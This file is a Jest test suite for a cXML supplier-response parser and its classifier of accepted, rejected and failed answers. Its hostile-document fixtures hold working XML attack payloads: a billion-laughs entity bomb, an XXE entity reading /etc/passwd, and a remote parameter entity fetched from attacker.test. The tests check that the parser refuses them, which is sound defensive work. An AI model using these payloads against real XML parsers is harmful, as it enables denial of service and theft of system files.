import { describe, expect, it } from '@jest/globals';

import { buildCxmlResponseXml } from './cxml-response-builder.js';
import { classifySupplierAnswer, parseCxmlResponse, readCxmlResponse } from './cxml-response.js';
import { CxmlParseError } from './cxml.types.js';

const NOW = new Date('2026-11-21T09:30:00Z');

function responseXml(status: string, payloadId = '1763717400000.7.abc@supplier.test'): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd">
<cXML payloadID="${payloadId}" timestamp="2026-11-21T09:30:00+00:00" xml:lang="en-US">
  <Response>
    ${status}
  </Response>
</cXML>`;
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE cXML [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<cXML payloadID="x" timestamp="t"><Response><Status code="200" text="OK">&lol3;</Status></Response></cXML>`;

const HOSTILE_DOCUMENTS: [string, string, RegExp][] = [
  ['a billion-laughs entity expansion', BILLION_LAUGHS, /entity declarations/],
  [
    'an external entity reading a local file',
    `<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<cXML payloadID="x" timestamp="t"><Response><Status code="200" text="OK">&xxe;</Status></Response></cXML>`,
    /entity declarations/,
  ],
  [
    'a parameter entity fetched from the network',
    `<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY % remote SYSTEM "http://attacker.test/x.dtd"> %remote;]>
<cXML payloadID="x" timestamp="t"><Response><Status code="200" text="OK"/></Response></cXML>`,
    /entity declarations/,
  ],
  [
    'an internal subset without entities',
    `<!DOCTYPE cXML [<!ELEMENT cXML ANY>]><cXML payloadID="x" timestamp="t"><Response><Status code="200" text="OK"/></Response></cXML>`,
    /without an internal subset/,
  ],
  [
    'an entity declaration outside a DOCTYPE',
    `<!ENTITY x "y"><cXML><Response><Status code="200" text="OK"/></Response></cXML>`,
    /entity declarations/,
  ],
  [
    'a reference to an undeclared entity',
    responseXml('<Status code="200" text="OK">Accepted&nbsp;now</Status>'),
    /"&nbsp;" is not allowed/,
  ],
  [
    'a character reference to a character XML forbids',
    responseXml('<Status code="200" text="OK">&#0;</Status>'),
    /"&#0;" is not allowed/,
  ],
];

describe('parseCxmlResponse', () => {
  it('reads a 200 response with the supplier order id carried in the Status text', () => {
    const xml = buildCxmlResponseXml({
      statusCode: 200,
      statusText: 'OK',
      message: 'Accepted',
      supplierOrderId: 'SBX-1A2B3C4D',
      timestamp: NOW,
      payloadId: '1763717400000.7.abc@supplier.test',
    });
    expect(parseCxmlResponse(xml)).toEqual({
      statusCode: 200,
      statusText: 'OK',
      message: 'Accepted; supplierOrderID=SBX-1A2B3C4D',
      payloadId: '1763717400000.7.abc@supplier.test',
      supplierOrderId: 'SBX-1A2B3C4D',
    });
  });

  it('reads a 400 response with its message and no supplier order id', () => {
    const parsed = parseCxmlResponse(
      responseXml('<Status code="400" text="Bad Request">Unknown part &quot;B0X&quot; &amp; more</Status>'),
    );
    expect(parsed).toMatchObject({
      statusCode: 400,
      statusText: 'Bad Request',
      message: 'Unknown part "B0X" & more',
      supplierOrderId: null,
    });
  });

  it('reads an empty Status element and CDATA text literally', () => {
    expect(parseCxmlResponse(responseXml('<Status code="200" text="OK"/>'))).toMatchObject({
      statusCode: 200,
      message: null,
    });
    expect(
      parseCxmlResponse(
        responseXml('<Status code="200" text="OK"><![CDATA[a &amp; <b>; supplierOrderID=S-1]]></Status>'),
      ),
    ).toMatchObject({ message: 'a &amp; <b>; supplierOrderID=S-1', supplierOrderId: 'S-1' });
  });

  it.each(HOSTILE_DOCUMENTS)('refuses %s', (_name, xml, reason) => {
    expect(() => parseCxmlResponse(xml)).toThrow(CxmlParseError);
    expect(() => parseCxmlResponse(xml)).toThrow(reason);
  });

  it.each([
    ['an empty body', ''],
    ['a blank body', '  \n '],
    [
      'an HTML error page',
      '<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body><h1>502</h1></body></html>',
    ],
    ['an XHTML page', '<html><body><p>Service unavailable</p></body></html>'],
    ['JSON', '{"status":"ok"}'],
    ['a truncated document', responseXml('<Status code="200" text="OK">').slice(0, -20)],
    ['two root elements', '<cXML/><cXML/>'],
    ['text after the root element', `${responseXml('<Status code="200" text="OK"/>')}trailing`],
    ['a raw control character', responseXml('<Status code="200" text="OK">a\u0001b</Status>')],
    ['a Response without a Status', responseXml('')],
    ['a non-numeric status code', responseXml('<Status code="ok" text="OK"/>')],
    ['a Request instead of a Response', '<cXML payloadID="x" timestamp="t"><Request/></cXML>'],
  ])('refuses %s', (_name, body) => {
    expect(() => parseCxmlResponse(body)).toThrow(CxmlParseError);
    expect(readCxmlResponse(body)).toBeNull();
  });
});

describe('readCxmlResponse', () => {
  it('reads a cXML Response as parseCxmlResponse does, and answers null for a body that is not one', () => {
    const xml = responseXml('<Status code="200" text="OK"/>');
    expect(readCxmlResponse(xml)).toEqual(parseCxmlResponse(xml));
    expect(readCxmlResponse('<html>Bad gateway</html>')).toBeNull();
  });
});

describe('classifySupplierAnswer', () => {
  it('accepts a cXML 200 even under HTTP 500: success wins', () => {
    const answer = classifySupplierAnswer(
      500,
      responseXml('<Status code="200" text="OK">Accepted; supplierOrderID=SBX-00000001</Status>'),
    );
    expect(answer).toMatchObject({
      outcome: 'accepted',
      httpStatus: 500,
      response: { supplierOrderId: 'SBX-00000001' },
    });
  });

  it('calls a cXML 4xx rejected and a cXML 5xx failed, whatever the HTTP status', () => {
    expect(classifySupplierAnswer(200, responseXml('<Status code="400" text="Bad Request"/>')).outcome).toBe(
      'rejected',
    );
    expect(classifySupplierAnswer(401, responseXml('<Status code="401" text="Unauthorized"/>')).outcome).toBe(
      'rejected',
    );
    expect(classifySupplierAnswer(500, responseXml('<Status code="500" text="Internal Server Error"/>'))).toMatchObject(
      {
        outcome: 'failed',
        error: 'cXML 500 Internal Server Error',
      },
    );
  });

  it('calls an unreadable answer failed, with the HTTP status and the reason', () => {
    expect(classifySupplierAnswer(502, '<html><body>Bad gateway</body></html>')).toEqual({
      outcome: 'failed',
      httpStatus: 502,
      response: null,
      error: 'HTTP 502: not a cXML document (root: html)',
    });
    expect(classifySupplierAnswer(200, BILLION_LAUGHS).outcome).toBe('failed');
  });
});
